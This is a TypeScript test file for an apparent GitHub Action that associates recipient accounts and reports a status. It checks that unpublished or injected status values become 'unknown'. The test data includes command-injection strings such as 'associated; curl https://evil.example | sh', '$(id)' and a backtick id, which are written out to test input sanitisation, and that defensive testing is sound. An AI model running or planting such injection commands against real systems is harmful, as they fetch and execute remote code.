import { describe, expect, it } from 'vitest';
import {
  account,
  activeRecords,
  bodyOf,
  RECIPIENT,
  RECORD,
  respondWith,
  runScenario,
  runWithFault,
  type Scenario,
  startScenario,
} from './scenario.ts';

const STATUSES = [
  'associating',
  'associated',
  'disassociating',
  'disassociated',
  'mixed',
  'unknown',
];
const OTHER_STATUSES = [
  'validating',
  'associated; curl https://evil.example | sh',
  '$(id)',
  '`id`',
  '"; exit 0 #',
  'ASSOCIATED',
  'mixed',
];

/** All values of `status` in the outputs of a run. */
function statusesOf({
  outputs,
  recipients,
}: Awaited<ReturnType<typeof runScenario>>): string[] {
  return [
    outputs['status'] ?? 'missing',
    ...recipients.map(({ status }) => String(status)),
  ];
}

/** Runs a scenario in which every list shows this status. */
function runWithStatus(status: string, scenario: Scenario) {
  const record = {
    id: RECORD,
    account_id: RECIPIENT,
    association_status: status,
  };
  return runWithFault(respondWith(bodyOf([record])), scenario);
}

describe.concurrent('the status in the outputs', () => {
  it.concurrent.each<[string, Record<string, string>]>([
    ['validating', { timeout: '10s' }],
    ['associated; curl https://evil.example | sh', { wait: 'false' }],
    ['$(id)', { 'dry-run': 'true' }],
    ['mixed', { state: 'absent', timeout: '10s' }],
  ])(
    'is unknown for a word that is not published: %j, %j',
    async (status, inputs) => {
      const run = await runWithStatus(status, { inputs });
      expect(statusesOf(run)).toEqual(['unknown', 'unknown']);
      expect(run.outputs['recipient-id']).toBe(RECORD);
    },
  );

  it('is mixed only for several accounts, and one of the published words for each', async () => {
    const statuses = [...OTHER_STATUSES, 'associated', 'associating'];
    const records = statuses.map((status, n) => ({
      id: `record${n}`,
      account_id: account(n),
      association_status: status,
    }));
    const run = await runWithFault(respondWith(bodyOf(records)), {
      inputs: {
        'recipient-account-id': records.map((one) => one.account_id).join(),
        timeout: '10s',
      },
    });
    expect(run.outputs['status']).toBe('mixed');
    expect(run.recipients.map(({ status }) => status)).toEqual([
      ...OTHER_STATUSES.map(() => 'unknown'),
      'associated',
      'associating',
    ]);
  });

  it('is unknown when the list cannot be read', async () => {
    const run = await runScenario({ api: { tokens: [] } });
    expect(run.outputs['status']).toBe('unknown');
    for (const one of statusesOf(run)) expect(STATUSES).toContain(one);
  });
});

it.concurrent('outputs that cannot be written fail the step, after everything else was done', async () => {
  const run = await runScenario({ env: { GITHUB_OUTPUT: '/nowhere/output' } });
  expect(run).toMatchObject({ exitCode: 1, signal: null, stderr: '' });
  expect(run.errors).toMatchObject([
    {
      title: 'Outputs could not be written',
      message: expect.stringMatching(/recipient-id.*\/nowhere\/output/),
    },
  ]);
  expect(activeRecords(run)).toMatchObject([
    { association_status: 'associated' },
  ]);
  expect(run.summary).toContain('1 account added');
});

it.concurrent('a log that nobody reads any more does not end the run', async () => {
  const started = await startScenario({
    api: { timeline: { associateReads: 1 } },
    onOutput: (text) => {
      if (text.includes('added as recipient')) started.child.stdout?.destroy();
    },
  });
  const { exitCode, signal, outputs, summary } = await started.finished;
  expect({ exitCode, signal }).toEqual({ exitCode: 0, signal: null });
  expect(outputs).toMatchObject({ status: 'associated', changed: 'true' });
  expect(summary).toContain('1 account added');
});

describe.concurrent('summary: false', () => {
  it('writes no job summary', async () => {
    const run = await runScenario({ inputs: { summary: 'false' } });
    expect(run).toMatchObject({ exitCode: 0, summary: '' });
  });
});

describe.concurrent('a job summary that cannot be written', () => {
  it('is a warning', async () => {
    const run = await runScenario({
      env: { GITHUB_STEP_SUMMARY: '/nowhere/summary.md' },
    });
    expect(run).toMatchObject({
      exitCode: 0,
      stderr: '',
      outputs: { status: 'associated' },
    });
    expect(run.annotations).toMatchObject([
      { level: 'warning', title: 'Job summary could not be written' },
    ]);
  });
});
